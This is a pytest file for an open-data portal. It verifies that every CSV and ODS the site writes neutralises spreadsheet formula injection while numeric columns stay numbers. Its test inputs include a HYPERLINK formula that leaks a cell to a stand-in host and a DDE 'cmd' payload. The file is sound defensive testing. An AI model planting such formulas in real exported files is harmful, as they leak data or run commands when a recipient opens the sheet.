"""No CSV or spreadsheet the site writes holds a live formula: every cell and header goes through
one rule, and a neutralised value reads the same in the release CSV, the ODS, the API's CSV export
and the data.gov.tw catalogue CSV, while numbers in numeric columns stay numbers."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from flask import Flask

from datasets.api.export import csv_chunks
from datasets.ingest import open_source
from datasets.models import Dataset, Release
from datasets.storage import release_folder
from datasets.writers.ods import write_ods
from datasets.writers.tabular import CsvWriter, neutralise_formula
from portal.db import db
from tests.datasets.conftest import write_csv

LINK = '=HYPERLINK("http://example.invalid/?leak="&A2,"點我")'
# Every way a spreadsheet can be told to compute, and texts that only look close.
LIVE = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "-5", "+886912345678"]
INERT = ["安全", "a=1", " =1", "'=1", "1-2", ""]
SCHEMA = {
    "fields": [
        {"name": LINK, "type": "string"},
        {"name": "count", "type": "integer"},
        {"name": "rate", "type": "number"},
        {"name": "@note", "type": "string"},
    ]
}


@pytest.mark.parametrize("text", LIVE)
def test_a_text_that_would_compute_gets_an_apostrophe(text: str) -> None:
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("text", INERT)
def test_a_text_that_would_not_compute_is_left_alone(text: str) -> None:
    assert neutralise_formula(text) == text


@pytest.mark.parametrize("number", ["-5", "+5", "-0.25", "-1e3", "-.5"])
def test_a_number_in_a_numeric_column_stays_a_number(number: str) -> None:
    assert neutralise_formula(number, numeric=True) == number
    assert neutralise_formula(number) == "'" + number  # the same text in a text column


@pytest.mark.parametrize("text", ["-2+3", "-INF", "=5", "-5 "])
def test_a_numeric_column_only_spares_plain_numbers(text: str) -> None:
    assert neutralise_formula(text, numeric=True) == "'" + text


def _rows() -> list[list[str]]:
    return [[text, "-5", "-0.5", "@mention"] for text in LIVE + INERT]


def _expected() -> list[list[str]]:
    return [[neutralise_formula(text), "-5", "-0.5", "'@mention"] for text in LIVE + INERT]


def test_the_release_csv_neutralises_its_header_and_every_cell(tmp_path: Path) -> None:
    path = tmp_path / "data.csv"
    writer = CsvWriter(path, SCHEMA)
    for row in _rows():
        writer.write(row)
    writer.close()
    header, *rows = list(csv.reader(path.open(encoding="utf-8-sig", newline="")))
    assert header == ["'" + LINK, "count", "rate", "'@note"]
    assert rows == _expected()


def test_the_ods_holds_the_same_texts_as_the_csv(tmp_path: Path) -> None:
    path = tmp_path / "data.ods"
    write_ods(path, SCHEMA, _rows())
    read = open_source(path, "data.ods")
    assert read.info.columns == ["'" + LINK, "count", "rate", "'@note"]
    # ODS writes a carriage return as a line break; otherwise the texts are the CSV's.
    assert list(read.rows) == [[cell.replace("\r", "\n") for cell in row] for row in _expected()]
    with zipfile.ZipFile(path) as archive:
        content = archive.read("content.xml").decode()
    assert 'office:value-type="float" office:value="-5"' in content


def test_the_api_csv_export_neutralises_its_header_and_its_texts_but_not_its_numbers() -> None:
    text = b"".join(csv_chunks([LINK, "count", "rate"], [[LINK, -5, -0.5], ["@x", 3, 1e20]])).decode()
    header, *rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert header == ["'" + LINK, "count", "rate"]
    assert rows == [["'" + LINK, "-5", "-0.5"], ["'@x", "3", "1e+20"]]


def test_a_published_release_has_no_live_formula_in_any_spreadsheet_file(
    app: Flask,
    make_dataset: Callable[..., Dataset],
    run_publish: Callable[..., Any],
    tmp_path: Path,
    client: Any,
) -> None:
    source = write_csv(
        tmp_path / "s.csv", [LINK, "count", "note"], [["=1+1", "-5", "a"], ["+886", "7", "@b"]]
    )
    dataset = make_dataset(schema={})
    job, release = run_publish(dataset, source)
    assert isinstance(release, Release), job.report
    with app.app_context():
        folder = release_folder(release.storage_key)
    header, *rows = list(csv.reader((folder / f"{dataset.slug}.csv").open(encoding="utf-8-sig", newline="")))
    assert header == ["'" + LINK, "count", "note"]
    assert rows == [["'=1+1", "-5", "a"], ["'+886", "7", "'@b"]]
    ods = open_source(folder / f"{dataset.slug}.ods", "x.ods")
    assert ods.info.columns == header
    assert list(ods.rows) == rows
    records = json.loads((folder / f"{dataset.slug}.json").read_text(encoding="utf-8"))
    assert records[0] == {LINK: "=1+1", "count": -5, "note": "a"}, "JSON is for programs: texts as they were"


def test_the_rows_export_reads_as_the_release_csv(
    make_dataset: Callable[..., Dataset], run_publish: Callable[..., Any], tmp_path: Path, client: Any
) -> None:
    source = write_csv(
        tmp_path / "s.csv", [LINK, "count", "note"], [["=1+1", "-5", "a"], ["+886", "7", "@b"]]
    )
    dataset = make_dataset(schema={})
    run_publish(dataset, source)
    exported = client.get(f"/api/v1/datasets/{dataset.slug}/rows.csv").get_data().decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(exported))) == [
        ["'" + LINK, "count", "note"],
        ["'=1+1", "-5", "a"],
        ["'+886", "7", "'@b"],
    ]


def test_the_datagovtw_catalogue_csv_neutralises_what_staff_typed(
    app: Flask,
    make_dataset: Callable[..., Dataset],
    run_publish: Callable[..., Any],
    tmp_path: Path,
    client: Any,
) -> None:
    schema = {"fields": [{"name": "code", "type": "string", "title": "-2+3"}]}
    dataset = make_dataset(
        schema=schema,
        title_zh=LINK,
        contact_name="@SUM(A1)",
        contact_phone="+886-2-2425-2103",
        notes="=1+1",
    )
    with app.app_context():
        stored = db.session.get(Dataset, dataset.id)
        stored.description_zh = "+cmd"
        db.session.commit()
    run_publish(dataset, write_csv(tmp_path / "s.csv", ["code"], [["A1"]]))
    text = client.get("/opendata/datagovtw.csv").get_data().decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(text)))
    record = dict(zip(header, next(row for row in rows if row[1] == "'" + LINK), strict=True))
    assert record["資料集描述"] == "'+cmd"
    assert record["主要欄位說明"] == "'-2+3"
    assert record["提供機關聯絡人姓名"] == "'@SUM(A1)"
    assert record["提供機關聯絡人電話"] == "'+886-2-2425-2103"
    assert record["備註"] == "'=1+1"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    entry = next(item for item in client.get("/opendata/datagovtw.json").get_json() if item["title"] == LINK)
    assert entry["publisherContactName"] == "@SUM(A1)", "the JSON keeps what was typed"
